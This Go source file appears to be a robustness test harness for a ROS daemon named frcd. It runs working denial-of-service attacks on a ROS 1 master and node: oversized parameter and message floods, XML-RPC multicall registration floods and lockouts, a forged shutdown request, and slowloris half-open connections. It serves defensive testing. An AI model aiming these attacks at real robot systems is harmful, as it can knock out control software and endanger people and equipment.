package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/bluenviron/goroslib/v2"
	"github.com/bluenviron/goroslib/v2/pkg/msgs/sensor_msgs"

	"github.com/frcd/frcd/ros/master"
)

// The attacks on ROS 1 (issues 32 and 37), and a ROS 1 node that
// registers and receives /joint_states as the legitimate client.

func init() { register(ros1Attacks...) }

func init() { legitimate = append(legitimate, client{"a ROS 1 node", rosNode}) }

var legitN atomic.Int64

// rosNode registers a node of its own and waits for one /joint_states.
func rosNode(t *target) error {
	n, err := goroslib.NewNode(goroslib.NodeConf{Name: fmt.Sprintf("legit%d", legitN.Add(1)), MasterAddress: t.masterAddr,
		Host: "127.0.0.1", LogDestinations: goroslib.LogDestinationCallback})
	if err != nil {
		return err
	}
	defer n.Close()
	got := make(chan struct{}, 1)
	sub, err := goroslib.NewSubscriber(goroslib.SubscriberConf{Node: n, Topic: "/joint_states",
		Callback: func(*sensor_msgs.JointState) {
			select {
			case got <- struct{}{}:
			default:
			}
		}})
	if err != nil {
		return err
	}
	defer sub.Close()
	select {
	case <-got:
		return nil
	case <-time.After(5 * time.Second):
		return errors.New("no /joint_states in 5 s")
	}
}

// multicall sends calls in one system.multicall and counts the accepted.
func multicall(t *target, calls []any) (ok int) {
	v, err := master.Call(context.Background(), t.masterURI, "system.multicall", calls)
	if err != nil {
		return 0
	}
	for _, r := range v.([]any) {
		if w, _ := r.([]any); len(w) == 1 {
			if res, _ := w[0].([]any); len(res) == 3 && res[0] == 1 {
				ok++
			}
		}
	}
	return ok
}

// deadPorts are loopback ports nothing listens on (the APIs of nodes
// that have exited).
func deadPorts(n int) []string {
	var out []string
	for range n {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			continue
		}
		out = append(out, "http://"+l.Addr().String()+"/")
		l.Close()
	}
	return out
}

// slowloris opens n connections to addr from each source address, each
// sending part of a request and nothing more, and holds them until
// release is closed.
func slowloris(addr string, srcs []string, n int, partial string) (held *int64, release func()) {
	var count int64
	var mu sync.Mutex
	var conns []net.Conn
	var wg sync.WaitGroup
	for _, src := range srcs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range n {
				c, err := dialFrom(context.Background(), src, addr)
				if err != nil {
					continue
				}
				c.Write([]byte(partial))
				mu.Lock()
				conns = append(conns, c)
				count++
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	return &count, func() {
		mu.Lock()
		defer mu.Unlock()
		for _, c := range conns {
			c.Close()
		}
	}
}

func sources(first, n int) []string {
	var s []string
	for i := range n {
		s = append(s, fmt.Sprintf("127.0.0.%d", first+i))
	}
	return s
}

// frcdAPI is frcd's node API and TCPROS address, as the master has them.
func frcdAPI(t *target) (api, tcpros string) {
	v, _ := master.Call(context.Background(), t.masterURI, "lookupNode", "/attacker", "/frcd")
	if r, _ := v.([]any); len(r) == 3 {
		api, _ = r[2].(string)
	}
	if api == "" {
		return "", ""
	}
	v, _ = master.Call(context.Background(), api, "requestTopic", "/attacker", "/joint_states", []any{[]any{"TCPROS"}})
	if r, _ := v.([]any); len(r) == 3 {
		if p, _ := r[2].([]any); len(p) == 3 {
			tcpros = fmt.Sprintf("%v:%v", p[1], p[2])
		}
	}
	return api, tcpros
}

var ros1Attacks = []attack{
	{"17 x 3.9 MB setParam + 8 getParam(/)", func(t *target, during func()) string {
		ctx := context.Background()
		big := strings.Repeat("x", 3_900_000)
		ok := 0
		for i := range 17 {
			v, _ := master.Call(ctx, t.masterURI, "setParam", "/attacker", fmt.Sprintf("/attack/p%d", i), big)
			if r, _ := v.([]any); len(r) == 3 && r[0] == 1 {
				ok++
			}
		}
		var wg sync.WaitGroup
		var refused atomic.Int64
		for range 8 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				v, _ := master.Call(ctx, t.masterURI, "getParam", "/attacker", "/")
				if r, _ := v.([]any); len(r) == 3 && r[0] == -1 {
					refused.Add(1)
				}
			}()
		}
		during()
		wg.Wait()
		for i := range 17 {
			master.Call(ctx, t.masterURI, "deleteParam", "/attacker", fmt.Sprintf("/attack/p%d", i))
		}
		return fmt.Sprintf("[params accepted %d/17, getParam refused %d/8]", ok, refused.Load())
	}},
	{"6 publishers of 16 MiB /sim/push", func(t *target, during func()) string {
		msg := &sensor_msgs.JointState{}
		for range 700000 {
			msg.Name = append(msg.Name, "hood_joint_xxxxx")
			msg.Position = append(msg.Position, 0.1)
		}
		var nodes []*goroslib.Node
		for i := range 6 {
			n, err := goroslib.NewNode(goroslib.NodeConf{Name: fmt.Sprintf("hostile%d", i), MasterAddress: t.masterAddr, Host: "127.0.0.1", LogDestinations: goroslib.LogDestinationCallback})
			if err != nil {
				continue
			}
			nodes = append(nodes, n)
			p, err := goroslib.NewPublisher(goroslib.PublisherConf{Node: n, Topic: "/sim/push", Msg: &sensor_msgs.JointState{}})
			if err != nil {
				continue
			}
			go func() {
				for range 20 {
					p.Write(msg)
					time.Sleep(100 * time.Millisecond)
				}
			}()
		}
		during()
		time.Sleep(time.Second)
		for _, n := range nodes {
			n.Close()
		}
		return fmt.Sprintf("[%d publishers]", len(nodes))
	}},
	{"multicall flood 241 x 1000 registerPublisher on one dead API", func(t *target, during func()) string {
		ok := 0
		for c := range 241 {
			calls := make([]any, 1000)
			for i := range calls {
				n := c*1000 + i
				calls[i] = map[string]any{"methodName": "registerPublisher", "params": []any{fmt.Sprintf("/flood%d", n), fmt.Sprintf("/flood/t%d", n), "std_msgs/String", fmt.Sprintf("http://127.0.0.1:1/%d", n)}}
			}
			ok += multicall(t, calls)
			if c == 120 {
				during()
			}
		}
		return fmt.Sprintf("[registrations accepted %d of 241000]", ok)
	}},
	{"registration lockout: 12 x 1000 from fake nodes on dead APIs", func(t *target, during func()) string {
		ok := 0
		for i, api := range deadPorts(12) {
			calls := make([]any, 1000)
			for k := range calls {
				calls[k] = map[string]any{"methodName": "registerSubscriber", "params": []any{fmt.Sprintf("/fake%d", i), fmt.Sprintf("/fake/t%d_%d", i, k), "std_msgs/String", api}}
			}
			ok += multicall(t, calls)
		}
		during() // the table is full of the dead: a living node evicts them
		return fmt.Sprintf("[registrations accepted %d of 12000]", ok)
	}},
	{"name clash: 100 x registerPublisher('/frcd', ...) and a shutdown request", func(t *target, during func()) string {
		ctx := context.Background()
		refused := 0
		for i := range 100 {
			v, _ := master.Call(ctx, t.masterURI, "registerPublisher", "/frcd", "/x", "std_msgs/String", fmt.Sprintf("http://127.0.0.1:9/%d", i))
			if r, _ := v.([]any); len(r) == 3 && r[0] != 1 {
				refused++
			}
		}
		api, _ := frcdAPI(t)
		if api != "" {
			master.Call(ctx, api, "shutdown", "/attacker", "go away")
		}
		time.Sleep(1500 * time.Millisecond) // off the graph, then back
		during()
		return fmt.Sprintf("[name refused %d/100, shutdown sent to %s]", refused, api)
	}},
	{"slowloris: 1000 half-open from 127.0.0.1 and 50 from each of 20 others, to the master, node API and TCPROS", func(t *target, during func()) string {
		api, tcpros := frcdAPI(t)
		apiAddr := strings.TrimSuffix(strings.TrimPrefix(api, "http://"), "/")
		var releases []func()
		var total int64
		for _, addr := range []string{t.masterAddr, apiAddr, tcpros} {
			if addr == "" {
				continue
			}
			partial := "POST / HTTP/1.1\r\nHost: x\r\n"
			if addr == tcpros {
				partial = "\x40\x00\x00" // three bytes of a header's length
			}
			n, rel := slowloris(addr, []string{"127.0.0.1"}, 1000/3, partial)
			total += *n
			releases = append(releases, rel)
			n, rel = slowloris(addr, sources(2, 20), 50/3+1, partial)
			total += *n
			releases = append(releases, rel)
		}
		during()
		for _, r := range releases {
			r()
		}
		return fmt.Sprintf("[%d half-open connections]", total)
	}},
	{"a second frcd with the same options", func(t *target, during func()) string {
		second := exec.Command(t.cmd.Path, t.cmd.Args[1:]...)
		second.Env = t.env
		var out strings.Builder
		var mu sync.Mutex
		second.Stdout = writerFunc(func(b []byte) (int, error) { mu.Lock(); defer mu.Unlock(); return out.Write(b) })
		second.Stderr = second.Stdout
		if err := second.Start(); err != nil {
			return "[" + err.Error() + "]"
		}
		exited := make(chan struct{})
		go func() { second.Wait(); close(exited) }()
		time.Sleep(4 * time.Second)
		during()
		running := true
		select {
		case <-exited:
			running = false
		default:
		}
		second.Process.Signal(os.Interrupt)
		<-exited
		mu.Lock()
		defer mu.Unlock()
		down := ""
		for _, l := range strings.Split(out.String(), "\n") {
			if i := strings.Index(l, "ROS node is down"); i >= 0 {
				down = l[i:min(len(l), i+120)]
				break
			}
		}
		return fmt.Sprintf("[the second ran %v; it said: %q]", running, down)
	}},
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(b []byte) (int, error) { return f(b) }
